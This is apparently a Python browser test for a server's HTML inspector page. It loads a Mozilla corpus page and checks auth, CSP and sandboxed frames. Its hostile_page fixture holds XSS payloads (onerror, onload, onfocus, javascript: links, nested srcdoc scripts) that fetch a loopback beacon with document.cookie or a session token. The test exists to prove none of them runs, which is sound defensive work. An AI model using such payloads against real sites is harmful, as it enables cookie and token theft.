#!/usr/bin/env python3
"""The inspector (GET /inspect) in a real headless Chromium against a running pithd.

1. A Mozilla corpus page: the browser answers pithd's Basic challenge as a
   user would, pastes the page, submits, waits for the answer, and checks the
   DOM: the title, a candidate list with scores, every strategy, and the root
   outlined inside the sandboxed frame (its computed outline, read through the
   DevTools protocol). A screenshot is saved as the test's artifact.
2. A hostile page whose markup tries every way to run script, reach the parent
   page or send data out: nothing of it runs, the inspector's window and title
   are untouched, and a beacon server on loopback sees no request.
3. With auth configured, /inspect without the token is 401 with a Basic
   challenge; with server.inspector = false it is 404, and "inspect" on
   /extract is refused.

Chromium (Debian's `chromium`, installed by `make deps`) is driven over
--remote-debugging-pipe, so nothing beyond the standard library is needed. A
missing Chromium or corpus fails the test; it never passes by skipping.

Usage: inspector_test.py PITHD [--artifacts DIR] [--screenshot PNG]
"""
import argparse
import base64
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from checklist import check, failures  # noqa: E402
from pithd_process import Pithd  # noqa: E402

TOKEN = "inspector-test-token"
CHROMIUM = "/usr/bin/chromium"


def corpus_dir():
    root = os.environ.get("PITH_CORPUS") or os.path.join(os.path.dirname(__file__), "..", "..", "..", "shared",
                                                         "corpus")
    pages = os.path.join(root, "readability-test-pages")
    if not os.path.isdir(pages):
        sys.exit(f"FAIL: no corpus at {pages} (set PITH_CORPUS)")
    return pages


# ------------------------------------------------------------------ pithd

def get(url, headers=None):
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def extract_answer(pithd, html, url):
    """pithd's POST /extract answer for the page, with the test's token."""
    request = urllib.request.Request(pithd.url("/extract"), method="POST",
                                     data=json.dumps({"html": html, "url": url}).encode(),
                                     headers={"Content-Type": "application/json",
                                              "Authorization": f"Bearer {TOKEN}"})
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


# ------------------------------------------------------------------ beacon

class Beacon:
    """An HTTP server on loopback that records every request a page makes to it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"hit")

            do_GET = do_POST = do_HEAD = _record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()


# ------------------------------------------------------------------ Chromium over the DevTools pipe

class Chromium:
    def __init__(self):
        if not os.path.exists(CHROMIUM):
            sys.exit(f"FAIL: {CHROMIUM} is missing; `make deps` installs Debian's chromium")
        self.profile = tempfile.mkdtemp(prefix="pith-inspector-chromium-")
        to_browser_read, self.to_browser = os.pipe()
        self.from_browser, from_browser_write = os.pipe()

        def wire_pipe():  # the protocol pipe is fds 3 (commands in) and 4 (answers out)
            commands, answers = os.dup(to_browser_read), os.dup(from_browser_write)
            os.dup2(commands, 3)
            os.dup2(answers, 4)

        self.proc = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--disable-dev-shm-usage", "--disable-extensions", "--no-first-run", "--no-default-browser-check",
             "--hide-scrollbars", "--mute-audio", f"--user-data-dir={self.profile}", "--remote-debugging-pipe",
             "about:blank"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            preexec_fn=wire_pipe, close_fds=False)
        os.close(to_browser_read)
        os.close(from_browser_write)
        self.next_id = 0
        self.buffer = b""
        self.events = []
        self.session = None
        self.frame_sessions = {}

    def _read_message(self, deadline):
        while b"\0" not in self.buffer:
            if time.monotonic() > deadline:
                raise TimeoutError("Chromium did not answer")
            chunk = os.read(self.from_browser, 1 << 16)
            if not chunk:
                raise RuntimeError("Chromium closed the DevTools pipe")
            self.buffer += chunk
        message, self.buffer = self.buffer.split(b"\0", 1)
        return json.loads(message)

    def send(self, method, params=None, session=True, timeout=60):
        self.next_id += 1
        mine = self.next_id  # events handled while waiting send messages of their own
        message = {"id": mine, "method": method, "params": params or {}}
        if isinstance(session, str):
            message["sessionId"] = session
        elif session and self.session:
            message["sessionId"] = self.session
        os.write(self.to_browser, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + timeout
        while True:
            answer = self._read_message(deadline)
            if answer.get("id") == mine:
                if "error" in answer:
                    raise RuntimeError(f"{method}: {answer['error']}")
                return answer.get("result", {})
            self.events.append(answer)
            self._handle_event(answer)

    def _handle_event(self, event):
        """Answers the requests the Fetch domain pauses: Basic credentials, as a user types them."""
        method, params = event.get("method"), event.get("params", {})
        if method == "Fetch.authRequired":
            self._reply("Fetch.continueWithAuth", {"requestId": params["requestId"], "authChallengeResponse": {
                "response": "ProvideCredentials", "username": "inspector", "password": TOKEN}})
        elif method == "Fetch.requestPaused":
            self._reply("Fetch.continueRequest", {"requestId": params["requestId"]})

    def _reply(self, method, params):
        # Sent without waiting, from inside an event: the answer is read by whichever send() waits next.
        self.next_id += 1
        os.write(self.to_browser, json.dumps({"id": self.next_id, "method": method, "params": params,
                                              "sessionId": self.session}).encode() + b"\0")

    def pump(self, seconds):
        """Handles events for `seconds`, for a page that is loading or working."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            self.send("Runtime.evaluate", {"expression": "1"})
            time.sleep(0.05)

    def open_page(self):
        targets = self.send("Target.getTargets", session=False)["targetInfos"]
        page = next(t for t in targets if t["type"] == "page")
        self.session = self.send("Target.attachToTarget", {"targetId": page["targetId"], "flatten": True},
                                 session=False)["sessionId"]
        for domain in ("Page", "Runtime", "DOM", "CSS"):
            self.send(domain + ".enable")
        self.send("Fetch.enable", {"handleAuthRequests": True, "patterns": [{"urlPattern": "*"}]})
        self.send("Emulation.setDeviceMetricsOverride",
                  {"width": 1440, "height": 1000, "deviceScaleFactor": 1, "mobile": False})

    def evaluate(self, expression):
        result = self.send("Runtime.evaluate", {"expression": expression, "returnByValue": True,
                                                "awaitPromise": True})
        if "exceptionDetails" in result:
            raise RuntimeError(f"{expression[:80]}: {result['exceptionDetails']}")
        return result["result"].get("value")

    def navigate(self, url):
        self.send("Page.navigate", {"url": url})
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if self.evaluate("document.readyState") == "complete" and self.evaluate("location.href") == url:
                return
            time.sleep(0.1)
        raise TimeoutError(f"{url} did not load")

    def wait_for(self, expression, timeout=90):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = self.evaluate(expression)
            if value:
                return value
            time.sleep(0.2)
        return None

    def document(self, session=True):
        return self.send("DOM.getDocument", {"depth": -1, "pierce": True}, session=session)["root"]

    def frame_session(self, frame_id):
        """A session on a frame that Chromium runs as a target of its own (a sandboxed frame with an
        opaque origin lives in a renderer process apart from the inspector's), or None while it
        has none: the frame's first, empty document is still the inspector's process's."""
        if not any(t["targetId"] == frame_id for t in self.send("Target.getTargets", session=False)["targetInfos"]):
            return None
        if frame_id not in self.frame_sessions:
            session = self.send("Target.attachToTarget", {"targetId": frame_id, "flatten": True},
                                session=False)["sessionId"]
            for domain in ("DOM", "CSS"):
                self.send(domain + ".enable", session=session)
            self.frame_sessions[frame_id] = session
        return self.frame_sessions[frame_id]

    def screenshot(self, path):
        data = self.send("Page.captureScreenshot", {"format": "png"})["data"]
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "wb") as out:
            out.write(base64.b64decode(data))

    def close(self):
        try:
            self.send("Browser.close", session=False, timeout=10)
        except Exception:
            pass
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        shutil.rmtree(self.profile, ignore_errors=True)


# ------------------------------------------------------------------ DOM helpers (DevTools node trees)

def attributes(node):
    values = node.get("attributes", [])
    return dict(zip(values[0::2], values[1::2]))


def walk(node):
    stack = [node]
    while stack:
        current = stack.pop()
        yield current
        children = list(current.get("children", []))
        if "contentDocument" in current:
            children.append(current["contentDocument"])
        stack.extend(reversed(children))


def find(node, predicate):
    return next((n for n in walk(node) if predicate(n)), None)


def frame_document(browser, frame_id, ready):
    """The <iframe> element, the document inside it once `ready(document)` holds (the srcdoc is
    loaded after the answer is shown), and the session that reads it; (frame, None, None) after 20 s."""
    deadline = time.monotonic() + 20
    frame = None
    while time.monotonic() < deadline:
        frame = find(browser.document(),
                     lambda n: n.get("nodeName") == "IFRAME" and attributes(n).get("id") == frame_id)
        if frame is not None:
            if "contentDocument" in frame and ready(frame["contentDocument"]):
                return frame, frame["contentDocument"], browser.session
            session = browser.frame_session(frame["frameId"])
            if session is not None:
                document = browser.document(session)
                if ready(document):
                    return frame, document, session
        time.sleep(0.1)
    return frame, None, None


def has_attribute(name):
    return lambda document: find(document, lambda n: name in attributes(n)) is not None


def computed(browser, node_id, session):
    styles = browser.send("CSS.getComputedStyleForNode", {"nodeId": node_id}, session=session)["computedStyle"]
    return {s["name"]: s["value"] for s in styles}


# ------------------------------------------------------------------ the cases

def submit(browser, html, url=""):
    browser.evaluate("document.getElementById('status').dataset.state = 'idle'")
    browser.evaluate(f"document.getElementById('html').value = {json.dumps(html)};"
                     f"document.getElementById('url').value = {json.dumps(url)};"
                     "document.getElementById('run').click(); true")
    return browser.wait_for("['done', 'error'].includes(document.getElementById('status').dataset.state) && "
                            "document.getElementById('status').dataset.state")


def corpus_case(browser, pithd, artifacts, screenshot):
    pages = corpus_dir()
    page = os.path.join(pages, "001")
    with open(os.path.join(page, "source.html"), encoding="utf-8") as f:
        source = f.read()
    with open(os.path.join(page, "expected-metadata.json"), encoding="utf-8") as f:
        expected = json.load(f)

    browser.navigate(pithd.url("/inspect"))
    check(browser.evaluate("document.title") == "pith inspector",
          "the inspector loads after the browser answers the Basic challenge")
    state = submit(browser, source, "http://fakehost/test/page.html")
    if not check(state == "done", f"a Mozilla page is extracted (status {state!r}: "
                                  f"{browser.evaluate('document.getElementById(`status`).textContent')!r})"):
        return
    title = browser.evaluate("document.getElementById('title').textContent")
    # auto's title is the page's headline; Readability's is Mozilla's, checked below.
    answer = extract_answer(pithd, source, "http://fakehost/test/page.html")
    check(bool(title) and title == answer.get("title"), f"the title is shown: {title!r}")

    scores = browser.evaluate("Array.from(document.querySelectorAll('#passes table.candidates tr[data-score]'))"
                              ".map(r => [r.querySelector('td.score').textContent, r.dataset.score])")
    check(bool(scores) and all(re.fullmatch(r"-?\d+\.\d\d", shown) and float(raw) == float(raw)
                               for shown, raw in scores),
          f"a candidate list with scores ({len(scores or [])} candidates, first {scores[:2] if scores else None})")

    strategies = browser.evaluate("Array.from(document.querySelectorAll('#strategies [data-strategy]'))"
                                  ".map(c => c.dataset.strategy)")
    check(sorted(strategies or []) == ["auto", "fitness", "lectito", "readability"],
          f"every strategy is listed: {strategies}")
    agreements = browser.evaluate("Array.from(document.querySelectorAll('#strategies [data-agreement]'))"
                                  ".map(c => c.textContent)")
    check(len(agreements or []) == 12 and all(re.fullmatch(r"\d+%", a) for a in agreements),
          f"each strategy's agreement with the three others: {agreements[:4] if agreements else None}")
    check(browser.evaluate("document.getElementById('markdown').textContent.length > 1000") and
          browser.evaluate("document.getElementById('clean-text').textContent.length > 1000"),
          "the Markdown and the clean text are shown")

    sandbox = browser.evaluate("document.getElementById('source-frame').getAttribute('sandbox')")
    check(sandbox == "", f"the source frame is sandboxed with no permission at all (sandbox={sandbox!r})")
    check(browser.evaluate("document.getElementById('source-frame').contentDocument === null"),
          "the inspector cannot reach into the source frame (its origin is opaque)")
    frame, document, session = frame_document(browser, "source-frame", has_attribute("data-pith-root"))
    marked = document and find(document, lambda n: "data-pith-root" in attributes(n))
    if check(marked is not None, "the article's root is marked in the sandboxed frame"):
        style = computed(browser, marked["nodeId"], session)
        check(style.get("outline-style") == "solid" and style.get("outline-width") == "4px",
              f"the root is outlined: {style.get('outline-style')} {style.get('outline-width')} "
              f"{style.get('outline-color')}")
        check("chosen root" in attributes(marked).get("title", ""),
              f"its scores show on hover: {attributes(marked).get('title', '')[:90]!r}")
    candidates = [n for n in walk(document or {}) if "data-pith-candidate" in attributes(n)]
    check(len(candidates) >= 2 and all("score" in attributes(n).get("title", "") for n in candidates),
          f"the top candidates are marked with their scores ({len(candidates)})")
    plain = [n for n in candidates if not {"data-pith-root", "data-pith-pass-root"} & set(attributes(n))]
    if check(bool(plain), "some top candidates are no pass's root"):
        style = computed(browser, plain[0]["nodeId"], session)
        check(style.get("outline-style") == "dashed",
              f"a top candidate is outlined dashed: {style.get('outline-style')} {style.get('outline-width')}")

    # Changing an option runs the extraction again.
    browser.evaluate("document.getElementById('status').dataset.state = 'idle';"
                     "const s = document.getElementById('strategy'); s.value = 'readability';"
                     "s.dispatchEvent(new Event('change')); true")
    state = browser.wait_for("document.getElementById('status').dataset.state === 'done' && "
                             "document.querySelector('#strategies h3.asked span').textContent")
    check(state == "readability", f"changing the strategy re-runs the extraction (now {state!r})")
    title = browser.evaluate("document.getElementById('title').textContent")
    check(title == expected["title"], f"with readability, the title is Mozilla's expected one: {title!r}")
    browser.evaluate("const t = document.getElementById('strategy'); t.value = 'auto';"
                     "t.dispatchEvent(new Event('change')); true")
    browser.wait_for("document.querySelector('#strategies h3.asked span').textContent === 'auto'")
    time.sleep(0.5)  # the frames paint
    for path in filter(None, [os.path.join(artifacts, "inspector.png") if artifacts else None, screenshot]):
        browser.screenshot(path)
        check(os.path.getsize(path) > 10_000, f"screenshot saved: {path}")


HOSTILE_TITLE = '<img src=x onerror="top.pwned=\'title\'"> Hostile page'


def hostile_page(beacon):
    b = f"http://127.0.0.1:{beacon}"
    prose = " ".join(["This paragraph is ordinary prose, long enough to be read as the article, with commas,"
                      " clauses and a full stop."] * 6)
    return f"""<!DOCTYPE html><html><head>
<title>{HOSTILE_TITLE.replace('<', '&lt;')}</title>
<meta http-equiv="refresh" content="0;url={b}/refresh">
<script src="{b}/script.js"></script>
<script>top.pwned = 'inline'; parent.document.title = 'pwned'; fetch('{b}/inline?' + sessionStorage.getItem('pith-token'));</script>
<link rel="stylesheet" href="{b}/sheet.css">
<style>@import url({b}/import.css); body {{ background: url({b}/background.png); }}</style>
</head><body onload="top.pwned = 'onload'; new Image().src = '{b}/onload';">
<article><h1>A page that tries to get out</h1>
<p>{prose}</p>
<p>{prose} <img id="probe" src="{b}/image.png" onerror="this.setAttribute('data-ran', '1'); top.pwned = 'img'; fetch('{b}/img?' + document.cookie);"></p>
<p>{prose} <svg onload="top.pwned = 'svg'"><rect width="1" height="1"/></svg></p>
<p>{prose} <a href="javascript:top.pwned='link'">a link</a></p>
<details open ontoggle="top.pwned = 'toggle'; fetch('{b}/toggle');"><summary>more</summary>{prose}</details>
<iframe srcdoc="&lt;script&gt;parent.parent.pwned = 'nested'; fetch('{b}/nested');&lt;/script&gt;"></iframe>
<object data="{b}/object"></object><embed src="{b}/embed">
<form action="{b}/form"><input autofocus onfocus="top.pwned = 'focus'; fetch('{b}/focus');"></form>
<video poster="{b}/poster.png"><source src="{b}/video.mp4" onerror="top.pwned = 'video'"></video>
</article></body></html>"""


def hostile_case(browser, artifacts):
    beacon = Beacon()
    try:
        browser.evaluate("sessionStorage.setItem('pith-token', 'secret-in-session'); true")
        state = submit(browser, hostile_page(beacon.port), "http://fakehost/hostile.html")
        check(state == "done", f"the hostile page is extracted (status {state!r})")
        browser.pump(3)  # time for anything that would run or load to do so
        check(browser.evaluate("typeof window.pwned") == "undefined",
              "no script of the page set anything in the inspector's window")
        check(browser.evaluate("document.title") == "pith inspector", "the inspector's title is untouched")
        check(browser.evaluate("sessionStorage.getItem('pith-token')") == "secret-in-session",
              "the inspector's storage is untouched")
        shown = browser.evaluate("document.getElementById('title').textContent")
        check(shown == HOSTILE_TITLE, f"the page's title is shown as text: {shown!r}")
        check(browser.evaluate("document.querySelector('#result img, #result svg, #result script') === null"),
              "nothing of the page became markup in the inspector's document")
        probe_loaded = lambda document: find(document, lambda n: attributes(n).get("id") == "probe") is not None
        for frame_id in ("source-frame", "article-frame"):
            frame, document, _ = frame_document(browser, frame_id, probe_loaded)
            check(frame is not None and attributes(frame).get("sandbox") == "",
                  f"{frame_id}: sandboxed with no permission")
            probe = document and find(document, lambda n: attributes(n).get("id") == "probe")
            check(probe is not None and "data-ran" not in attributes(probe),
                  f"{frame_id}: the page's own event handler did not run inside the frame")
        check(browser.evaluate("document.getElementById('source-frame').contentDocument === null && "
                               "document.getElementById('article-frame').contentDocument === null"),
              "both frames have an opaque origin: the inspector cannot reach them, nor they it")
        check(not beacon.hits, f"the page sent nothing out (beacon saw {beacon.hits})")
        if artifacts:
            browser.screenshot(os.path.join(artifacts, "inspector-hostile.png"))
    finally:
        beacon.stop()


def access_cases(binary):
    server = Pithd(binary, "--auth-token", TOKEN)
    try:
        status, headers, _ = get(server.url("/inspect"))
        challenges = headers.get_all("WWW-Authenticate") or []
        check(status == 401 and any(c.startswith("Basic") for c in challenges),
              f"/inspect without the token: {status}, challenges {challenges}")
        basic = "Basic " + base64.b64encode(f"anyone:{TOKEN}".encode()).decode()
        status, headers, body = get(server.url("/inspect"), {"Authorization": basic})
        policy = headers.get("Content-Security-Policy", "")
        check(status == 200 and b"pith inspector" in body, f"/inspect with Basic credentials: {status}")
        check("default-src 'none'" in policy and "frame-ancestors 'none'" in policy and "script-src 'sha256-" in policy,
              f"/inspect is served under a strict policy: {policy[:70]}...")
        status, _, _ = get(server.url("/inspect"), {"Authorization": "Bearer " + TOKEN})
        check(status == 200, f"/inspect with the bearer token: {status}")
        status, _, _ = get(server.url("/inspect"), {"Authorization": "Bearer wrong"})
        check(status == 401, f"/inspect with a wrong token: {status}")
    finally:
        server.stop()
    server = Pithd(binary, "--auth-token", TOKEN, "--inspector=false")
    try:
        status, _, _ = get(server.url("/inspect"), {"Authorization": "Bearer " + TOKEN})
        check(status == 404, f"/inspect with server.inspector = false: {status}")
        request = urllib.request.Request(server.url("/extract"), method="POST", headers={
            "Authorization": "Bearer " + TOKEN, "Content-Type": "application/json"},
            data=json.dumps({"html": "<p>x</p>", "options": {"inspect": True}}).encode())
        try:
            urllib.request.urlopen(request, timeout=30)
            status = 200
        except urllib.error.HTTPError as error:
            status = error.code
        check(status == 400, f"\"inspect\" on /extract with the inspector off: {status}")
    finally:
        server.stop()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("pithd")
    parser.add_argument("--artifacts", help="folder for the screenshot")
    parser.add_argument("--screenshot", help="also save the corpus page's screenshot here (the README's)")
    args = parser.parse_args()

    access_cases(args.pithd)
    pithd = Pithd(args.pithd, "--auth-token", TOKEN)
    browser = Chromium()
    try:
        browser.open_page()
        corpus_case(browser, pithd, args.artifacts, args.screenshot)
        hostile_case(browser, args.artifacts)
    finally:
        browser.close()
        pithd.stop()
    if failures:
        print(f"{len(failures)} check(s) failed", flush=True)
        return 1
    print("all inspector checks passed", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
